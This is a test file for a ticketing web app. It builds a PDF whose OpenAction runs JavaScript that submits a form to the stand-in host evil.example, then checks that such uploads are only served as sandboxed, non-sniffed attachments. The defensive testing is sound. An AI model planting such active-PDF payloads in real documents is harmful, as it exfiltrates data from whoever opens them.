import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LightMyRequestResponse } from 'fastify';
import { ticketCategories } from '../src/db/schema/ticket-categories';
import { createTestApp, type TestApp } from './helpers';
import { loadWorkIds, multipart } from './work-helpers';

/*
 * A PDF that runs JavaScript when opened (an /OpenAction of type /JavaScript) is a valid PDF, and
 * people do send such forms: it is kept, but it must never be shown by the browser as a page of
 * the app. Every download of it is an attachment, with no type guessing, and sandboxed should a
 * browser open it anyway (no script, no same-origin access).
 */
function pdfWithJavaScript(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\); this.submitForm\\('https://evil.example/'\\);) >>",
  ];
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(text));
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text);
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const ACTIVE_PDF = pdfWithJavaScript();
const file = { filename: 'form.pdf', contentType: 'application/pdf', data: ACTIVE_PDF };

let t: TestApp;
const tokens = {} as Record<'master' | 'employee' | 'customer', string>;
beforeAll(async () => {
  t = await createTestApp();
  tokens.master = await t.login('master');
  tokens.employee = await t.login('employee');
  tokens.customer = await t.login('user');
});
afterAll(() => t.close());

function expectDownloadOnly(response: LightMyRequestResponse) {
  expect(response.statusCode).toBe(200);
  expect(response.headers['content-type']).toBe('application/pdf');
  expect(response.headers['content-disposition']).toBe(`attachment; filename="form.pdf"; filename*=UTF-8''form.pdf`);
  expect(response.headers['content-security-policy']).toBe('sandbox');
  expect(response.headers['x-content-type-options']).toBe('nosniff');
}

describe('a PDF with JavaScript actions', () => {
  it('is kept on a new ticket and only ever downloaded, sandboxed and never sniffed (GET and HEAD, customer and master)', async () => {
    const [category] = await t.database.db.insert(ticketCategories).values({ name: 'Active PDF' }).returning();
    const fields = {
      subject: 'Signed form',
      description: 'The form, filled in.',
      priority: 'low',
      department: 'support',
      type: 'request',
      categoryId: String(category!.id),
    };
    const body = multipart(fields, [file]);
    const created = await t.call({
      method: 'POST',
      url: '/api/tickets',
      token: tokens.customer,
      payload: body.payload,
      headers: body.headers,
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().ticket.id;
    const timeline = (
      await t.call({ method: 'GET', url: `/api/tickets/${id}/timeline`, token: tokens.customer })
    ).json().data;
    const url = `/api/tickets/${id}/attachments/${timeline[1].attachments[0].id}`;
    for (const token of [tokens.customer, tokens.master]) {
      const download = await t.call({ method: 'GET', url, token });
      expectDownloadOnly(download);
      expect(Buffer.compare(download.rawPayload, ACTIVE_PDF)).toBe(0);
      expectDownloadOnly(await t.call({ method: 'HEAD', url, token }));
    }
  });

  it('is kept on a task comment and only ever downloaded the same way', async () => {
    const ids = await loadWorkIds(t.database);
    const tasks = (
      await t.call({ method: 'GET', url: `/api/tasks?assigneeId=${ids.employee}`, token: tokens.employee })
    ).json().data;
    const body = multipart({ body: 'The filled-in form' }, [file]);
    const created = await t.call({
      method: 'POST',
      url: `/api/tasks/${tasks[0].id}/comments`,
      token: tokens.employee,
      payload: body.payload,
      headers: body.headers,
    });
    expect(created.statusCode, created.body).toBe(201);
    const url = `/api/tasks/${tasks[0].id}/attachments/${created.json().attachments[0].id}`;
    const download = await t.call({ method: 'GET', url, token: tokens.master });
    expectDownloadOnly(download);
    expect(Buffer.compare(download.rawPayload, ACTIVE_PDF)).toBe(0);
  });
});
